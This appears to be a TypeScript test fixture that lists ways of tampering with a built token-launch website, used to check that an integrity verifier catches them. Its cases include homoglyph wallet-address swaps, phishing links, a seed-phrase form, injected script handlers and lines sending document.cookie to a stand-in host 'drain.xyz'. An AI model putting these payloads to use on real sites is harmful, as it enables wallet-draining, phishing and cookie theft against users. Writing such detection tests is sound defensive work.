import { madeUpAddress } from '../../../test-support/launch-site';

/** Gives the new bytes of a file. */
type Change = (bytes: Buffer, mint: string) => Buffer;

const THIEF = madeUpAddress('thief');

/** A change of a text. It throws where the text stays the same. */
function text(change: (text: string, mint: string) => string): Change {
  return (bytes, mint) => {
    const before = bytes.toString();
    const after = change(before, mint);
    if (after === before) throw new Error('This tampering changes nothing: the file has another form now.');
    return Buffer.from(after);
  };
}

const replace = (from: string | RegExp, to: string) => text((page) => page.replace(from, to));
const added = (html: string) => replace('</body>', `${html}</body>`);
const appended = (code: string) => text((script) => `${script}\n${code}`);
/** A change of the address where it stands between two other texts. */
const address = (before: string, after: string, change: (mint: string) => string) =>
  text((page, mint) => page.replace(`${before}${mint}${after}`, `${before}${change(mint)}${after}`));

const withInTheMiddle = (character: string) => (mint: string) =>
  `${mint.slice(0, 20)}${character}${mint.slice(21)}`;
const oneOff = (mint: string) => withInTheMiddle(mint[20] === 'x' ? 'y' : 'x')(mint);
const sameEnds = (mint: string) => `${mint.slice(0, 5)}${THIEF.slice(5, 38)}${mint.slice(38)}`;
const sellTheToken = (page: string, mint: string) =>
  page.replace(
    new RegExp(`sell=\\w+&(?:amp;)?buy=${mint}`),
    `sell=${mint}&amp;buy=So11111111111111111111111111111111111111112`,
  );

const page = 'index.html';
const pageData = 'page-data/index/page-data.json';
const script = 'app.js';

/**
 * Ways to put another address, another place or other code on the site: what was done, to which file, and how. `app.js`
 * stands for the file of that name and its hash.
 */
export const tamperings: readonly [deed: string, file: string, change: Change][] = [
  ['one character of the shown address', page, address('>', '<', oneOff)],
  ['one character of what the button copies', page, address('data-copy="', '"', oneOff)],
  ['one character in the buy link', page, address('buy=', '', oneOff)],
  ['one character in the explorer link', page, address('explorer.calmbiscuit.xyz/url/', '', oneOff)],
  ['one character in the page data', pageData, address('', '', oneOff)],
  ['another address in a script', script, appended(`var a="${THIEF}"`)],
  [
    'another address behind escapes in a script',
    script,
    appended(`var a="\\u00${THIEF.charCodeAt(0).toString(16)}${THIEF.slice(1)}"`),
  ],
  ['a look-alike with the same ends', page, address('>', '<', sameEnds)],
  ['a look-alike with a letter of another script', page, address('>', '<', withInTheMiddle('\u043e'))],
  ['a look-alike with a zero', page, address('>', '<', withInTheMiddle('0'))],
  [
    'the address as character references',
    page,
    address('>', '<', () => `&#${THIEF.charCodeAt(0)};${THIEF.slice(1)}`),
  ],
  [
    'an address in a picture’s text',
    'share.png',
    (bytes) => Buffer.concat([bytes, Buffer.from(` ${THIEF} `)]),
  ],
  ['the buy link leads to another exchange', page, replace('href="https://swap.', 'href="https://svvap.')],
  ['the buy link sells the token', page, text(sellTheToken)],
  ['the buy link in the page data', pageData, replace('https://swap.', 'https://swap.calmbiscuit.xyz.evil.')],
  [
    'a social link in the page data',
    pageData,
    replace(/https:\/\/socials\.[^"]+/, 'https://socials.calmbiscuit.xyz/drainer'),
  ],
  ['a link is added', page, added('<a href="https://claim-biscuit.xyz">claim</a>')],
  [
    'a link to a known host with another path',
    page,
    added('<a href="https://socials.calmbiscuit.xyz/drainer">claim</a>'),
  ],
  ['a script is added to the page', page, added('<script>document.title="x"</script>')],
  ['a script from another host', page, added('<script src="https://cdn-biscuit.xyz/a.js"></script>')],
  ['a script from the site’s own files', page, added('<script src="/deck/share.js"></script>')],
  [
    'the start-up script does more',
    page,
    replace(
      '(function beforeHydration(',
      '(function beforeHydration(){fetch("/x")})();(function beforeHydration(',
    ),
  ],
  ['a script in an attribute', page, replace('<img ', '<img onerror="steal()" ')],
  ['a script in a link', page, added('<a href=" java&#x73;cript:steal()">claim</a>')],
  ['a frame over the page', page, added('<iframe src="/deck/share.png"></iframe>')],
  ['a form', page, added('<form><input name="seed"></form>')],
  ['a redirect', page, replace('<head>', '<head><meta http-equiv="refresh" content="0;url=/deck/x">')],
  ['a base element that turns every address', page, replace('<head>', '<head><base href="/x/">')],
  [
    'another home in the canonical link',
    page,
    replace(/rel="canonical" href="[^"]+"/, 'rel="canonical" href="https://calmbiscuit.xyz/"'),
  ],
  [
    'another profile in the structured data',
    page,
    replace('"sameAs":["', '"sameAs":["https://socials.calmbiscuit.xyz/other","'),
  ],
  ['a script of the page asks another host', script, appended('fetch("https://drain.xyz/"+document.cookie)')],
  ['the same without a scheme', script, appended('fetch("//drain.xyz/"+document.cookie)')],
  ['the same by WebSocket', script, appended('new WebSocket("wss://drain.xyz")')],
  [
    'a picture from another host in the styles',
    page,
    replace('</style>', 'main{background:url(https://track.xyz/a.png)}</style>'),
  ],
  ['a script in a drawing', 'icon.svg', replace('</svg>', '<script>steal()</script></svg>')],
  ['another sitemap', 'robots.txt', replace(/Sitemap: .*/, 'Sitemap: https://other.xyz/sitemap.xml')],
  [
    'another contact for security reports',
    '.well-known/security.txt',
    replace(/Contact: .*/, 'Contact: https://other.xyz/'),
  ],
  ['a page that the build did not write', 'airdrop.html', () => Buffer.from(`<p>Send SOL to ${THIEF}`)],
  ['the compressed page alone', 'index.html.br', () => Buffer.from('not what the page says')],
  ['a source map', script, appended('//# sourceMappingURL=app.js.map')],
  ['a path of somebody’s machine', script, appended('// /home/captain/biscuit/src/app.tsx')],
  ['a secret key', script, appended('var k="sb_secret_0123456789abcdef"')],
  ['another share picture', 'share.png', (bytes) => Buffer.concat([bytes, Buffer.alloc(1)])],
  [
    'an address that a script puts together from pieces',
    script,
    appended(`var a="${THIEF.slice(0, 20)}"+"${THIEF.slice(20)}"`),
  ],
];
